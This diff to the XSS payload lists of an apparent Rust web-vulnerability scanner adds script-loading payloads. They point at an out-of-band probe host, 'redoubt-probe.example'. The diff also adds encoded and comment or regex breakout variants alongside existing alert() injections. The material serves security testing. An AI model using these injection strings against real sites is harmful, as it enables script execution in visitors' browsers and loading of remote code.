@@ -10,6 +10,7 @@ const ELEMENTS: &[&str] = &[
     "<script>alert(@)</script>",
     "<sCrIpT>alert(@)</sCrIpT>",
     "<SvG oNlOaD=alert(@)>",
+    "<script src=//r@.redoubt-probe.example></script>",
     "<details open ontoggle=alert(@)>",
     "<svg/onload=alert(@)>",
     "<zq onpointerenter=alert(@)>x",
@@ -46,7 +47,7 @@ const ELEMENTS: &[&str] = &[
 const DECODED_LATER: &[&str] = &[
     "%3Csvg onload=alert(@)%3E",
     "&lt;svg onload=alert(@)&gt;",
-    "\u{ff1c}svg onload=alert(@)\u{ff1e}",
+    "\u{ff1c}svg onload=alert(@)\u{ff1e}\\x3csvg onload=alert(@)\\x3e%u003csvg onload=alert(@)%u003e",
     "\\u003csvg onload=alert(@)\\u003e",
     "%253Csvg onload=alert(@)%253E",
 ];
@@ -181,9 +182,13 @@ fn of(context: &Context, alive: &Survivors) -> Vec<String> {
             let mut list = match kind {
                 Value::Plain => Vec::new(),
                 Value::Url => strings(URLS),
-                Value::Loaded => {
-                    strings(&["data:text/javascript,alert(@)", "data:text/javascript,alert(@)//"])
-                }
+                Value::Loaded => strings(&[
+                    "data:text/javascript,alert(@)",
+                    "//r@.redoubt-probe.example/",
+                    "https://r@.redoubt-probe.example/x.js?",
+                    "data:text/javascript,alert(@)//",
+                ]),
+                Value::Host => strings(&["r@.redoubt-probe.example/"]),
                 Value::Script(place) => in_script(*place, alive, true),
                 Value::Page => strings(&["&lt;svg onload=alert(@)&gt;", "<svg onload=alert(@)>"]),
             };
@@ -305,7 +310,7 @@ fn in_script(place: InScript, alive: &Survivors, in_attribute: bool) -> Vec<Stri
         ]),
         InScript::LineComment => strings(&["\nalert(@)//", "\ralert(@)//", "\u{2028}alert(@)//"]),
         InScript::BlockComment => strings(&["*/alert(@)/*", "*/;alert(@)/*", "*/-alert(@)/*"]),
-        InScript::Pattern => strings(&["/-alert(@)-/", "/;alert(@)//"]),
+        InScript::Pattern => strings(&["x/-alert(@)-/x", "x/;alert(@)//"]),
     }
 }
 
